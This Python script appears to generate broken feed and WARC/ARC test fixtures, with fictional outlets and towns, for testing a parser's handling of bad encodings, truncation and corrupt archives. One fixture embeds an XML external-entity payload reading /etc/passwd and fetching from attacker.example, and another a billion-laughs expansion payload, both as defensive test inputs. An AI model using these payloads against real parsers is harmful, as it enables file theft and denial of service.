"""Write the broken real-world feed and WARC files in this folder (run it to regenerate them).

Every file is invented: the outlets, places and people are fictional. Each one is broken the
way files from real crawlers and feed generators are broken; ``test_realworld.py`` says what
must be read from each. Output is deterministic (gzip mtime 0), so regenerating changes no
committed byte unless this script changes.

    python tests/stages/readers/realworld/make_fixtures.py
"""

from __future__ import annotations

import codecs
import gzip
import io
import itertools
import zlib
from pathlib import Path

from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

HERE = Path(__file__).resolve().parent


def _gzip(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def _item(title: str, link: str, text: str, date: str = "Tue, 04 Feb 2031 08:00:00 +0000") -> str:
    return (f"<item><title>{title}</title><link>{link}</link><pubDate>{date}</pubDate>"
            f"<description>{text}</description></item>\n")


def _rss(items: str, encoding: str = "utf-8", title: str = "Lowmoor Courier", doctype: str = "") -> str:
    return (f'<?xml version="1.0" encoding="{encoding}"?>\n{doctype}'
            f'<rss version="2.0"><channel><title>{title}</title><link>https://courier.example/</link>\n'
            f"<language>en</language>\n{items}</channel></rss>\n")


THREE = (_item("Dam inspected", "https://courier.example/dam",
               "Engineers inspected the Brennock dam on Monday and found no cracks.")
         + _item("Ferry delayed", "https://courier.example/ferry",
                 "The ferry to Callow Island was delayed by fog for six hours.")
         + _item("School reopens", "https://courier.example/school",
                 "The school in Pellworth reopened after the roof was repaired."))


def feeds() -> dict[str, bytes]:
    """File name -> bytes of every broken feed."""
    files: dict[str, bytes] = {}
    files["rss091-netscape.rss"] = (
        '<?xml version="1.0" encoding="ISO-8859-1"?>\n'
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"\n'
        ' "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
        '<rss version="0.91"><channel><title>Fenwick Gazette</title><link>https://gazette.example/</link>'
        "<description>News</description><language>en-us</language>\n"
        "<item><title>Harbour wall mended</title><link>https://gazette.example/wall</link>"
        "<description>Masons mended the harbour wall at Fenwick before the spring tides &mdash; "
        "the caf&eacute; on the quay reopened.</description></item>\n"
        "<item><title>Library fund</title><link>https://gazette.example/library</link>"
        "<description>A fund for the Fenwick library raised enough for new shelves.</description></item>\n"
        "</channel></rss>\n").encode("latin-1")
    files["rss10.rdf"] = (
        b'<?xml version="1.0" encoding="utf-8"?>\n'
        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"'
        b' xmlns:dc="http://purl.org/dc/elements/1.1/">\n'
        b'<channel rdf:about="https://wire.example/"><title>Ostrand Wire</title><link>https://wire.example/</link>'
        b"<items><rdf:Seq><rdf:li rdf:resource=\"https://wire.example/1\"/>"
        b"<rdf:li rdf:resource=\"https://wire.example/2\"/></rdf:Seq></items></channel>\n"
        b'<item rdf:about="https://wire.example/1"><title>Levee holds</title><link>https://wire.example/1</link>'
        b"<description>The levee at Ostrand held through the night, the water board said.</description>"
        b"<dc:date>2031-02-05T06:00:00+01:00</dc:date><dc:language>en</dc:language></item>\n"
        b'<item rdf:about="https://wire.example/2"><title>Roads closed</title><link>https://wire.example/2</link>'
        b"<description>Two roads into Ostrand stayed closed because of flooding.</description></item>\n"
        b"</rdf:RDF>\n")
    latin = _item("Café fermé", "https://courier.example/cafe",
                  "Le café de la place à Brennock est fermé après la crue, a déclaré le maire.")
    files["latin1-declared.rss"] = _rss(latin + THREE, "ISO-8859-1").encode("latin-1")
    cyr = _item("Мост закрыт", "https://courier.example/most",
                "Мост через реку у Бреннока закрыт после наводнения, сообщили власти.")
    files["cp1251-declared.rss"] = _rss(cyr, "windows-1251", title="Бреннокский вестник").encode("cp1251")
    # 镕 is in GBK but not in GB2312: feeds labelled gb2312 are routinely GBK in fact.
    cjk = _item("洪水过后", "https://courier.example/cn",
                "布伦诺克的洪水退去后，居民回到家中。陈国镕说学校将在周一复课。")
    files["gb2312-declared-gbk.rss"] = _rss(cjk, "gb2312", title="布伦诺克日报").encode("gbk")
    wrong = _item("Quay “closed”", "https://courier.example/quay",
                  "The quay at Pellworth is “closed” until Friday, the harbour master’s office said.")
    files["declared-utf8-is-cp1252.rss"] = _rss(wrong + THREE, "utf-8").encode("cp1252")
    files["declared-latin1-is-utf8.rss"] = _rss(latin + THREE, "iso-8859-1").encode("utf-8")
    files["really-gzip.rss"] = _gzip(_rss(THREE).encode())
    files["feed-gzip-no-extension"] = _gzip(_rss(THREE).encode())
    amp = _item("Fish & chips", "https://courier.example/fish?a=1&b=2",
                "Stalls selling fish & chips returned to the Callow Island pier.")
    files["unescaped-ampersand.rss"] = _rss(THREE[: THREE.index("<item>", 10)] + amp
                                            + THREE[THREE.index("<item>", 10):]).encode()
    files["html-entities.rss"] = _rss(
        _item("Hospital&nbsp;open", "https://courier.example/hospital",
              "The hospital in Pellworth is open&nbsp;again, the caf&eacute; too.") + THREE).encode()
    xxe = ('<!DOCTYPE rss [\n<!ENTITY local SYSTEM "file:///etc/passwd">\n'
           '<!ENTITY remote SYSTEM "http://attacker.example/x.dtd">\n<!ENTITY % pe SYSTEM "http://attacker.example/p">\n'
           "%pe;\n]>\n")
    files["external-entity.rss"] = _rss(
        _item("Entity item", "https://courier.example/ent", "Water is safe to drink in Brennock. &local; &remote;")
        + THREE, doctype=xxe).encode()
    laughs = ('<!DOCTYPE rss [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
              '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
              '<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">]>\n')
    files["billion-laughs.rss"] = _rss(
        _item("Laughs", "https://courier.example/lol", "Crews cleared mud in Ostrand. &f;") + THREE,
        doctype=laughs).encode()
    full = _rss(THREE).encode()
    files["truncated.rss"] = full[: full.index(b"roof was")]
    files["summary-and-link.rss"] = _rss(
        _item("Teaser only", "https://courier.example/teaser", "Read how Pellworth rebuilt its bridge.")
        + "<item><title>Link only</title><link>https://courier.example/link-only</link></item>\n").encode()
    files["bom-and-blank-line-first.rss"] = codecs.BOM_UTF8 + b"\r\n  " + _rss(THREE).encode()
    files["utf16-no-bom.rss"] = _rss(latin, "utf-16").encode("utf-16-le")
    page = ("<html><body><nav>Home | Sections</nav><article><p>The pumping station at Brennock ran all night "
            "and kept the lower streets dry, the water board said on Thursday.</p><p>Crews will check the "
            "pumps again before the weekend, when more rain is expected in the valley.</p></article>"
            "<footer>Copyright Lowmoor Courier</footer></body></html>")
    files["whole-page-in-cdata.rss"] = _rss(
        f"<item><title>Pumps</title><link>https://courier.example/pumps</link>"
        f"<description><![CDATA[{page}]]></description></item>\n").encode()
    return files


def _page(title: str, text: str) -> bytes:
    paras = "".join(f"<p>{p}</p>" for p in text.split("\n"))
    return (f"<!DOCTYPE html><html><head><title>{title}</title></head><body><nav>Home | Region</nav>"
            f"<article><h1>{title}</h1>{paras}</article><footer>Copyright Lowmoor Courier</footer>"
            f"</body></html>").encode()


PAGES = [
    ("Brennock dam inspected",
     "Engineers spent Monday inspecting the Brennock dam after a week of heavy rain in the valley.\n"
     "They found no cracks in the wall, and the spillway was clear of debris, the water board said."),
    ("Ferry to Callow Island delayed",
     "Thick fog delayed the ferry to Callow Island by six hours on Tuesday, stranding commuters.\n"
     "The operator said sailings would return to the usual timetable once visibility improved."),
    ("Pellworth school reopens",
     "The primary school in Pellworth reopened on Wednesday after builders repaired its roof.\n"
     "Parents said the children were glad to be back in their own classrooms after a month away."),
]


def _chunked(body: bytes, size: int = 50) -> bytes:
    out = b""
    for i in range(0, len(body), size):
        part = body[i:i + size]
        out += f"{len(part):x}\r\n".encode() + part + b"\r\n"
    return out + b"0\r\n\r\n"


class _Warc:
    def __init__(self, gzip_records: bool = False) -> None:
        self.buf = io.BytesIO()
        self.writer = WARCWriter(self.buf, gzip=gzip_records)
        self.ends: list[int] = []

    def _headers(self) -> dict[str, str]:
        """Fixed id and date, so that regenerating the files changes no byte."""
        return {"WARC-Record-ID": f"<urn:uuid:00000000-0000-4000-8000-{len(self.ends) + 1:012d}>",
                "WARC-Date": "2031-02-06T10:00:00Z"}

    def response(self, uri: str, payload: bytes, ctype: str = "text/html; charset=utf-8",
                 extra: tuple[tuple[str, str], ...] = (), status: str = "200 OK") -> None:
        fields = [("Content-Type", ctype)] if ctype else []
        headers = StatusAndHeaders(status, [*fields, *extra], protocol="HTTP/1.1")
        rec = self.writer.create_warc_record(uri, "response", payload=io.BytesIO(payload), length=len(payload),
                                             http_headers=headers,
                                             warc_headers_dict=self._headers())
        self.writer.write_record(rec)
        self.ends.append(self.buf.tell())

    def revisit(self, uri: str) -> None:
        headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html")], protocol="HTTP/1.1")
        rec = self.writer.create_revisit_record(uri, digest="sha1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
                                                refers_to_uri=uri, refers_to_date="2031-02-01T10:00:00Z",
                                                http_headers=headers, warc_headers_dict=self._headers())
        self.writer.write_record(rec)
        self.ends.append(self.buf.tell())

    def pages(self) -> None:
        for i, (title, text) in enumerate(PAGES, start=1):
            self.response(f"https://courier.example/p{i}", _page(title, text))

    def data(self) -> bytes:
        return self.buf.getvalue()


def _members(data: bytes, cuts: list[int]) -> bytes:
    """Gzip ``data`` as one member per slice between ``cuts`` (byte offsets of the plain WARC)."""
    bounds = [0, *cuts, len(data)]
    return b"".join(_gzip(data[a:b]) for a, b in itertools.pairwise(bounds))


def _lf_only() -> bytes:
    """Records whose WARC and HTTP headers end lines with LF alone (lengths are right)."""
    out = b""
    for i, (title, text) in enumerate(PAGES, start=1):
        block = b"HTTP/1.1 200 OK\nContent-Type: text/html\n\n" + _page(title, text)
        out += (b"WARC/1.0\nWARC-Type: response\nWARC-Target-URI: https://courier.example/lf%d\n"
                b"WARC-Date: 2031-02-06T10:00:00Z\nWARC-Record-ID: <urn:uuid:00000000-0000-4000-8000-00000000010%d>\n"
                b"Content-Type: application/http; msgtype=response\nContent-Length: %d\n\n%s\n\n"
                % (i, i, len(block), block))
    return out


def _arc(gzip_records: bool) -> bytes:
    """An ARC (version 1) file: a filedesc:// record, then one record per capture."""
    desc = b"1 0 Lowmoor Courier\nURL IP-address Archive-date Content-type Archive-length\n"
    records = [b"filedesc://lowmoor.arc 0.0.0.0 20310206100000 text/plain %d\n%s\n" % (len(desc), desc)]
    for i, (title, text) in enumerate(PAGES, start=1):
        http = b"HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n" + _page(title, text)
        head = b"https://courier.example/a%d 192.0.2.1 20310206100000 text/html %d\n" % (i, len(http))
        records.append(head + http + b"\n")
    return b"".join(_gzip(r) for r in records) if gzip_records else b"".join(records)


def warcs() -> dict[str, bytes]:
    """File name -> bytes of every broken WARC."""
    files: dict[str, bytes] = {}
    plain = _Warc()
    plain.pages()
    data = plain.data()
    files["one-gzip-member.warc.gz"] = _gzip(data)  # the whole file as one member
    files["members-across-records.warc.gz"] = _members(data, [len(data) // 5, len(data) // 2, len(data) - 300])
    per_record = _Warc(gzip_records=True)
    per_record.pages()
    zipped = per_record.data()
    files["clipped-record.warc.gz"] = zipped[: per_record.ends[1] + (per_record.ends[2] - per_record.ends[1]) // 2]
    files["clipped-record.warc"] = data[: plain.ends[1] + 600]  # inside the third page
    files["clipped-header.warc"] = data[: plain.ends[1] + 200]  # inside the third record's WARC header
    revisit = _Warc()
    revisit.pages()
    revisit.revisit("https://courier.example/p1")
    revisit.revisit("https://courier.example/p2")
    files["revisits.warc"] = revisit.data()
    enc = _Warc()
    title, text = PAGES[0]
    enc.response("https://courier.example/chunked", _chunked(_page(title, text)),
                 extra=(("Transfer-Encoding", "chunked"),))
    title, text = PAGES[1]
    enc.response("https://courier.example/gzipped", _gzip(_page(title, text)), extra=(("Content-Encoding", "gzip"),))
    title, text = PAGES[2]
    deflated = zlib.compress(_page(title, text))
    enc.response("https://courier.example/both", _chunked(deflated, 40),
                 extra=(("Content-Encoding", "deflate"), ("Transfer-Encoding", "chunked")))
    files["chunked-and-gzip-payloads.warc"] = enc.data()
    mixed = _Warc()
    mixed.response("https://courier.example/report.pdf", b"%PDF-1.4 not a page", ctype="application/pdf")
    mixed.response("https://courier.example/api", b'{"status": "ok"}', ctype="application/json")
    mixed.response("https://courier.example/logo.png", b"\x89PNG\r\n\x1a\n", ctype="image/png")
    mixed.response("https://courier.example/old", b"<html>moved</html>", status="301 Moved Permanently")
    title, text = PAGES[2]
    mixed.response("https://courier.example/p3", _page(title, text))
    files["non-html-responses.warc"] = mixed.data()
    odd = _Warc()
    title, text = PAGES[0]
    odd.response("https://courier.example/said-chunked", _page(title, text), extra=(("Transfer-Encoding", "chunked"),))
    title, text = PAGES[1]
    odd.response("https://courier.example/said-gzip", _page(title, text), extra=(("Content-Encoding", "gzip"),))
    title, text = PAGES[2]
    odd.response("https://courier.example/no-type", _page(title, text), ctype="")
    files["mislabelled-payloads.warc"] = odd.data()
    # The first record's Content-Length is 20 bytes short: its last 20 bytes sit before the next header.
    head_end = data.index(b"\r\n\r\n")
    length_at = data.index(b"Content-Length: ", 0, head_end) + len(b"Content-Length: ")
    length_end = data.index(b"\r\n", length_at)
    short = str(int(data[length_at:length_end]) - 20).encode()
    files["wrong-content-length.warc"] = data[:length_at] + short + data[length_end:]
    four = _Warc()
    four.pages()
    four.response("https://courier.example/p4", _page(*PAGES[0]))
    data4 = four.data()
    long_at = data4.index(b"Content-Length: ", four.ends[0]) + len(b"Content-Length: ")
    long_end = data4.index(b"\r\n", long_at)
    longer = str(int(data4[long_at:long_end]) + 300).encode()  # swallows the third record's header
    files["content-length-too-long.warc"] = data4[:long_at] + longer + data4[long_end:]
    files["lf-only-headers.warc"] = _lf_only()
    member = per_record.ends[1] - per_record.ends[0]
    middle = per_record.ends[0] + member // 2
    files["corrupt-gzip-member.warc.gz"] = zipped[:middle] + b"\xff" * 40 + zipped[middle + 40:]
    files["nul-padded.warc.gz"] = zipped + b"\x00" * 512
    files["legacy.arc"] = _arc(gzip_records=False)
    files["legacy-gz.arc.gz"] = _arc(gzip_records=True)
    return files


def main() -> None:
    for name, data in {**feeds(), **warcs()}.items():
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    main()
